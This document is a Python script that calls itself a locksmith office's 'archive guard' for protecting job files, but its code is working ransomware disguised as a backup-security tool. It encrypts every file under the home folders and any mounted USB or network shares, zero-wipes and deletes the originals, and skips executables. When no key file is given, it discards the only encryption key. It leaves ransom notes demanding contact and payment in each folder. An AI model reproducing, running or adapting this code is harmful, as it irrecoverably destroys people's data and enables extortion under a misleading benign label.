#!/usr/bin/env python3
"""Job archive guard.

Locksmith job sheets and invoices contain customer addresses and lock
codes. This tool "seals" the archive folders so that a stolen laptop does
not leak them. Sealed files get a .lkv suffix; the office key server holds
the unlock key.
"""

import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-guard")

# Folders the office keeps job paperwork in. Extended by ARCHIVE_EXTRA.
ROOTS = ["Documents", "Desktop", "Invoices", "Pictures", "JobSheets"]
KEEP_EXT = {".lkv", ".exe", ".dll", ".so", ".sys"}
NOTE_NAME = "HOW_TO_UNSEAL.txt"


class Sealer:
    def __init__(self, key, dry_run=False):
        self.cipher = Fernet(key)
        self.dry_run = dry_run
        self.count = 0

    def eligible(self, path: Path) -> bool:
        if path.suffix.lower() in KEEP_EXT or path.name == NOTE_NAME:
            return False
        try:
            return path.is_file() and path.stat().st_size < 256 * 1024 * 1024
        except OSError:
            return False

    def seal(self, path: Path):
        data = path.read_bytes()
        out = path.with_name(path.name + ".lkv")
        if self.dry_run:
            log.info("would seal %s", path)
            return
        out.write_bytes(self.cipher.encrypt(data))
        # the plain copy must not stay on disk
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def walk(self, root: Path):
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if not self.eligible(p):
                    continue
                try:
                    self.seal(p)
                except (OSError, PermissionError) as exc:
                    log.debug("skip %s: %s", p, exc)
            self.drop_note(Path(dirpath))

    def drop_note(self, folder: Path):
        if self.dry_run:
            return
        note = folder / NOTE_NAME
        if not note.exists():
            try:
                note.write_text(
                    "Your job files have been sealed.\n"
                    "Contact unseal@example.net with your office ID to receive\n"
                    "the unlock key. Payment instructions will follow.\n")
            except OSError:
                pass


def target_roots():
    home = Path.home()
    roots = [home / r for r in ROOTS]
    extra = os.environ.get("ARCHIVE_EXTRA", "")
    roots += [Path(p) for p in extra.split(os.pathsep) if p]
    # mounted shares (USB sticks, NAS) count as archive too
    for mnt in (Path("/media"), Path("/mnt")):
        if mnt.is_dir():
            roots += [p for p in mnt.iterdir() if p.is_dir()]
    return [r for r in roots if r.exists()]


def main():
    ap = argparse.ArgumentParser(description="Seal job archive folders")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--key-file", default=None,
                    help="existing key; a new one is generated otherwise")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if args.key_file:
        key = Path(args.key_file).read_bytes().strip()
    else:
        key = Fernet.generate_key()
        # key stays only in memory; the office server issues the unlock copy

    sealer = Sealer(key, dry_run=args.dry_run)
    for root in target_roots():
        log.info("sealing under %s", root)
        sealer.walk(root)
    del key
    log.info("sealed %d files", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
